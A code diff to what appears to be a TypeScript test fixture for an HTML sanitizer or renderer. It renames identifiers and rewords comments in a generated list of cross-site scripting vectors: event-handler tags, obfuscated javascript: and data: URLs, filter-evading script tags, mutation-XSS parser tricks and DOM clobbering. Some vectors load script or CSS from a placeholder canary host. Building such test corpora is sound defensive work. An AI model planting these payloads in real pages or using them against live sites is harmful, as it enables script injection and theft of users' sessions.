@@ -1,6 +1,6 @@
-/** What a vector would run. It reports to the tripwire whatever else the page allows or forbids. */
-const RUN = 'tripwire(1)'
-/** Where a vector would send somebody's secrets. */
+/** The code that a vector tries to run: a function that the test exposes. */
+const PAYLOAD = 'tripwire(1)'
+/** A host that a vector tries to contact. */
 export const CANARY = 'canary.invalid'
 
 const elements = [
@@ -18,109 +18,109 @@ const handlers = [
   ],
 ]
 
-/** An element, a handler, and one of the ways to part or quote them that some parser once forgave. */
-const withHandlers = elements.flatMap((element, place) =>
+/** An element, a handler, and one of several ways to separate or quote them that some parsers accept. */
+const withHandlers = elements.flatMap((element, elementIndex) =>
   handlers
-    .filter((_, other) => (place + other) % 2 === 0)
-    .map((handler, other) => {
-      const ways = [
-        `<${element} src=x tabindex=1 autofocus open ${handler}=${RUN}>`,
-        `<${element}/src="x"/${handler}="${RUN}">`,
-        `<${element} src=x ${handler.toUpperCase()}='${RUN}'//`,
-        `<${element}\tsrc=x\n${handler}\f=\r${RUN}>`,
-        `"><${element} src=x ${handler}=${RUN}>`,
+    .filter((_, index) => (elementIndex + index) % 2 === 0)
+    .map((handler, index) => {
+      const variants = [
+        `<${element} src=x tabindex=1 autofocus open ${handler}=${PAYLOAD}>`,
+        `<${element}/src="x"/${handler}="${PAYLOAD}">`,
+        `<${element} src=x ${handler.toUpperCase()}='${PAYLOAD}'//`,
+        `<${element}\tsrc=x\n${handler}\f=\r${PAYLOAD}>`,
+        `"><${element} src=x ${handler}=${PAYLOAD}>`,
         `<${element} src=x ${handler}=&#x74;ripwire&lpar;1&rpar;>`,
       ]
-      return ways[(place + other) % ways.length] ?? ''
+      return variants[(elementIndex + index) % variants.length] ?? ''
     }),
 )
 
-const addresses = [
-  `javascript:${RUN}`,
-  `JaVaScRiPt:${RUN}`,
-  `  javascript:${RUN}`,
-  `java\tscript:${RUN}`,
-  `java\nscript:${RUN}`,
-  `javascript&colon;${RUN}`,
-  `&#106;avascript:${RUN}`,
-  `&#x6A&#x61vascript:${RUN}`,
-  `\u0001javascript:${RUN}`,
-  `javascript://${CANARY}/%0a${RUN}`,
-  `data:text/html,<script>parent.${RUN}</script>`,
+const urls = [
+  `javascript:${PAYLOAD}`,
+  `JaVaScRiPt:${PAYLOAD}`,
+  `  javascript:${PAYLOAD}`,
+  `java\tscript:${PAYLOAD}`,
+  `java\nscript:${PAYLOAD}`,
+  `javascript&colon;${PAYLOAD}`,
+  `&#106;avascript:${PAYLOAD}`,
+  `&#x6A&#x61vascript:${PAYLOAD}`,
+  `\u0001javascript:${PAYLOAD}`,
+  `javascript://${CANARY}/%0a${PAYLOAD}`,
+  `data:text/html,<script>parent.${PAYLOAD}</script>`,
   'data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJpcHdpcmUoMSk8L3NjcmlwdD4=',
-  `vbscript:${RUN}`,
+  `vbscript:${PAYLOAD}`,
   `//${CANARY}/x.js`,
 ]
 const carriers = [
-  (address: string) => `<a href="${address}" autofocus>a</a>`,
-  (address: string) => `<iframe src="${address}"></iframe>`,
-  (address: string) => `<form action="${address}"><button formaction="${address}">b</button></form>`,
-  (address: string) => `<svg><a xlink:href="${address}"><text>c</text></a></svg>`,
-  (address: string) => `<object data="${address}"></object><embed src="${address}">`,
-  (address: string) => `[d](${address}) ![e](${address}) <${address}>`,
+  (url: string) => `<a href="${url}" autofocus>a</a>`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<form action="${url}"><button formaction="${url}">b</button></form>`,
+  (url: string) => `<svg><a xlink:href="${url}"><text>c</text></a></svg>`,
+  (url: string) => `<object data="${url}"></object><embed src="${url}">`,
+  (url: string) => `[d](${url}) ![e](${url}) <${url}>`,
 ]
-const withAddresses = addresses.flatMap((address, place) =>
-  carriers.filter((_, other) => (place + other) % 2 === 0).map((carrier) => carrier(address)),
+const withUrls = urls.flatMap((url, urlIndex) =>
+  carriers.filter((_, index) => (urlIndex + index) % 2 === 0).map((carrier) => carrier(url)),
 )
 
 const scripts = [
-  `<script>${RUN}</script>`,
-  `<ScRiPt >${RUN}</sCrIpT >`,
+  `<script>${PAYLOAD}</script>`,
+  `<ScRiPt >${PAYLOAD}</sCrIpT >`,
   `<script src=//${CANARY}/x.js></script>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<<script>${RUN}//<</script>`,
-  `<script\u0000>${RUN}</script>`,
-  `</script><script>${RUN}</script>`,
-  `</title></textarea></noscript></style><script>${RUN}</script>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><script href=data:,${RUN} />`,
-  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
-  `<p title="\`><img src=x onerror=${RUN}>">`,
-  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
+  `<<script>${PAYLOAD}//<</script>`,
+  `<script\u0000>${PAYLOAD}</script>`,
+  `</script><script>${PAYLOAD}</script>`,
+  `</title></textarea></noscript></style><script>${PAYLOAD}</script>`,
+  `<svg><script>${PAYLOAD}</script></svg>`,
+  `<svg><script href=data:,${PAYLOAD} />`,
+  `<svg></p><style><a id="</style><img src=x onerror=${PAYLOAD}>">`,
+  `<p title="\`><img src=x onerror=${PAYLOAD}>">`,
+  `<listing>&lt;img src=x onerror=${PAYLOAD}&gt;</listing>`,
   `<style>@import '//${CANARY}/x.css'; * { background: url(//${CANARY}/y) }</style>`,
-  `<p style="background:url(//${CANARY}/z);width:expression(${RUN})">styled</p>`,
+  `<p style="background:url(//${CANARY}/z);width:expression(${PAYLOAD})">styled</p>`,
   `<link rel=stylesheet href=//${CANARY}/l.css><link rel=prefetch href=//${CANARY}/p>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${PAYLOAD}">`,
   `<base href=//${CANARY}/>`,
-  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
-  `<template><img src=x onerror=${RUN}></template>`,
-  `<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x" /></svg>`,
-  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${RUN}>'}} />`,
-  `{"__html":"<img src=x onerror=${RUN}>"}`,
-  `\${${RUN}} {{constructor.constructor('${RUN}')()}} #{${RUN}} <%= ${RUN} %>`,
-  `';${RUN};'";${RUN};"\`;${RUN};//`,
-  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
-  `%3Cscript%3E${RUN}%3C/script%3E`,
-  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
-  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
-  `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  `\u202e<img src=x onerror=${RUN}>\u202c`,
-  `https://venus.example/"onmouseover="${RUN}"`,
-  `https://venus.example/'><img src=x onerror=${RUN}>`,
-  `http://javascript:${RUN}@venus.example/`,
-  `www.venus.example/<script>${RUN}</script>`,
+  `<iframe srcdoc="<script>parent.${PAYLOAD}</script>"></iframe>`,
+  `<template><img src=x onerror=${PAYLOAD}></template>`,
+  `<svg><animate attributeName=href values=javascript:${PAYLOAD} /></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${PAYLOAD}/>#x" /></svg>`,
+  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${PAYLOAD}>'}} />`,
+  `{"__html":"<img src=x onerror=${PAYLOAD}>"}`,
+  `\${${PAYLOAD}} {{constructor.constructor('${PAYLOAD}')()}} #{${PAYLOAD}} <%= ${PAYLOAD} %>`,
+  `';${PAYLOAD};'";${PAYLOAD};"\`;${PAYLOAD};//`,
+  `\\u003cscript\\u003e${PAYLOAD}\\u003c/script\\u003e`,
+  `%3Cscript%3E${PAYLOAD}%3C/script%3E`,
+  `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`,
+  `\uff1cscript\uff1e${PAYLOAD}\uff1c/script\uff1e`,
+  `&lt;script&gt;${PAYLOAD}&lt;/script&gt;`,
+  `\u202e<img src=x onerror=${PAYLOAD}>\u202c`,
+  `https://venus.example/"onmouseover="${PAYLOAD}"`,
+  `https://venus.example/'><img src=x onerror=${PAYLOAD}>`,
+  `http://javascript:${PAYLOAD}@venus.example/`,
+  `www.venus.example/<script>${PAYLOAD}</script>`,
   `<a id=tripwire name=tripwire href=x>clobbered</a><form name=body id=head></form>`,
   `<img name=currentScript><img name=getElementById>`,
-  `<!--><img src=x onerror=${RUN}>-->`,
-  `<!--<img src="--><img src=x onerror=${RUN}//">`,
-  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
-  `<?xml-stylesheet href="javascript:${RUN}"?>`,
-  `<a href="x" target="_blank" rel="opener" onclick=${RUN}>opener</a>`,
+  `<!--><img src=x onerror=${PAYLOAD}>-->`,
+  `<!--<img src="--><img src=x onerror=${PAYLOAD}//">`,
+  `<![CDATA[<img src=x onerror=${PAYLOAD}>]]>`,
+  `<?xml-stylesheet href="javascript:${PAYLOAD}"?>`,
+  `<a href="x" target="_blank" rel="opener" onclick=${PAYLOAD}>opener</a>`,
 ]
 
-/** Ends whatever a vector may have opened, so that the next one meets the parser fresh. */
-export const ENDING =
+/** Closes all elements that a vector may have opened, before the next one. */
+export const CLOSING_TAGS =
   '"\'></style></script></iframe></select></object></svg></math></noscript></template></form></table></a><p>'
 
-/** These would hide from the parser what comes after them: each stands alone, or last. */
-export const swallowing = [
-  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+/** These hide from the parser what comes after them: each is sent alone, or last. */
+export const swallowingVectors = [
+  `<math><mtext><table><mglyph><style><img src=x onerror=${PAYLOAD}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PAYLOAD}>`,
   ...['<!--', '<textarea>', '<title>', '<xmp>', '<noembed>', '<script>', '<plaintext>'].map(
-    (open) => `${open}<img src=x onerror=${RUN}>`,
+    (open) => `${open}<img src=x onerror=${PAYLOAD}>`,
   ),
 ]
 
-export const vectors = [...new Set([...scripts, ...withAddresses, ...withHandlers])]
+export const vectors = [...new Set([...scripts, ...withUrls, ...withHandlers])]
